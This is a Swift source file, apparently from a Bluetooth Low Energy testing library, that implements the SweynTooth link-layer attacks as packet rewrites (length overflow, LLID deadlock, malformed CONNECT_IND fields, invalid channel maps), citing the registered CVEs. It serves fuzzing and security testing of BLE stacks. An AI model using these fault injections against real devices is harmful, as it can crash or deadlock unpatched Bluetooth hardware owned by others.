import BLEWire

/// The link-layer faults of SweynTooth (Garbelini, Wang, Chattopadhyay, Sun, Kurniawan,
/// "SweynTooth: Unleashing Mayhem over Bluetooth Low Energy", USENIX ATC 2020), as a
/// ``HostileController`` puts them on the air. Each rewrites packets its wrapped controller
/// was about to send; the CVE numbers are those the authors registered for the stacks they
/// crashed or deadlocked. The L2CAP, ATT and SMP attacks of the family need no hostile
/// radio: a host sends their bytes over an ordinary link (docs/security.md).
public enum SweynToothAttack: Hashable, Sendable {
    /// Link Layer Length Overflow (CVE-2019-16336, CVE-2019-17519): a data PDU whose Length
    /// field says 255 octets, more than the packet carries and more than was negotiated.
    case linkLayerLengthOverflow
    /// LLID Deadlock (CVE-2019-17061, CVE-2019-17060): data PDUs sent with the reserved
    /// LLID 0b00 (Core 5.4, Vol 6, Part B, §2.4).
    case llidDeadlock
    /// Silent Length Overflow (CVE-2019-17518): an L2CAP start whose payload is padded to
    /// `octets` octets with a matching Length field, past connEffectiveMaxRxOctets (§4.5.10) and
    /// past the L2CAP length it carries.
    case silentLengthOverflow(octets: Int)
    /// Invalid Connection Request (CVE-2019-19193): a CONNECT_IND whose LLData break
    /// §2.3.3.1 in the way `fault` says.
    case invalidConnectionRequest(ConnectionRequestFault)
    /// Invalid Channel Map (CVE-2020-10069, CVE-2020-13594): every LL_CHANNEL_MAP_IND goes
    /// out with `map` (fewer than two channels) in place of the map chosen.
    case invalidChannelMap(map: UInt64)

    /// How ``invalidConnectionRequest(_:)`` breaks the CONNECT_IND.
    public enum ConnectionRequestFault: String, Hashable, Sendable, CaseIterable {
        /// Interval 0: connInterval would be 0 s.
        case intervalZero
        /// Timeout 0: no supervision timeout.
        case timeoutZero
        /// WinSize 0: no transmit window.
        case windowSizeZero
        /// Hop 0: channel selection #1 would stay on one channel.
        case hopIncrementZero
        /// ChM 0: no data channel at all.
        case channelMapEmpty
        /// ChM with one channel: fewer than the two §4.5.8.1 requires.
        case channelMapOneChannel
        /// Latency 500: over the 499 allowed.
        case latencyTooLarge
        /// The CONNECT_IND payload cut to 26 of its 34 octets (LLData without Timeout, ChM
        /// and Hop), as the truncated CONNECT_IND of the authors' CC2540 test.
        case truncated
    }

    /// `pdu` (a data channel PDU, unencrypted) as this attack sends it, or `nil` when the
    /// attack leaves it alone.
    func rewriteDataPDU(_ pdu: [UInt8]) -> [UInt8]? {
        guard pdu.count >= 2, pdu[1] > 0 else { return nil }
        let llid = pdu[0] & 0b11
        switch self {
        case .linkLayerLengthOverflow:
            guard llid == 0b10 else { return nil }
            var changed = pdu
            changed[1] = 0xFF
            return changed
        case .llidDeadlock:
            guard llid != 0b11 else { return nil }
            var changed = pdu
            changed[0] &= ~0b11
            return changed
        case let .silentLengthOverflow(octets):
            guard llid == 0b10, octets > Int(pdu[1]), octets <= 255 else { return nil }
            var changed = pdu + [UInt8](repeating: 0, count: octets - Int(pdu[1]))
            changed[1] = UInt8(octets)
            return changed
        case let .invalidChannelMap(map):
            guard llid == 0b11, pdu.count >= 10, pdu[2] == LL.ControlOpcode.channelMapIndication.rawValue else { return nil }
            var changed = pdu
            for index in 0 ..< 5 { changed[3 + index] = UInt8(truncatingIfNeeded: map >> (8 * UInt64(index))) }
            return changed
        case .invalidConnectionRequest:
            return nil
        }
    }

    /// `pdu` (an advertising channel PDU) as this attack sends it, or `nil` when the attack
    /// leaves it alone.
    func rewriteAdvertisingPDU(_ pdu: [UInt8]) -> [UInt8]? {
        guard case let .invalidConnectionRequest(fault) = self,
              let decoded = try? LL.AdvertisingPDU(decoding: pdu),
              case let .connectInd(initiator, advertiser, data) = decoded.payload
        else { return nil }
        var request = data
        switch fault {
        case .intervalZero: request.interval = 0
        case .timeoutZero: request.timeout = 0
        case .windowSizeZero: request.windowSize = 0
        case .hopIncrementZero: request.hopIncrement = 0
        case .channelMapEmpty: request.channelMap = 0
        case .channelMapOneChannel: request.channelMap = 1 << 9
        case .latencyTooLarge: request.latency = 500
        case .truncated:
            // Header (type, length 26) + InitA + AdvA + the first 14 of the 22 LLData octets.
            var cut = Array(pdu.prefix(2 + 26))
            cut[1] = 26
            return cut
        }
        var changed = decoded
        changed.payload = .connectInd(initiatorAddress: initiator, advertiserAddress: advertiser, linkLayerData: request)
        return changed.encoded()
    }
}
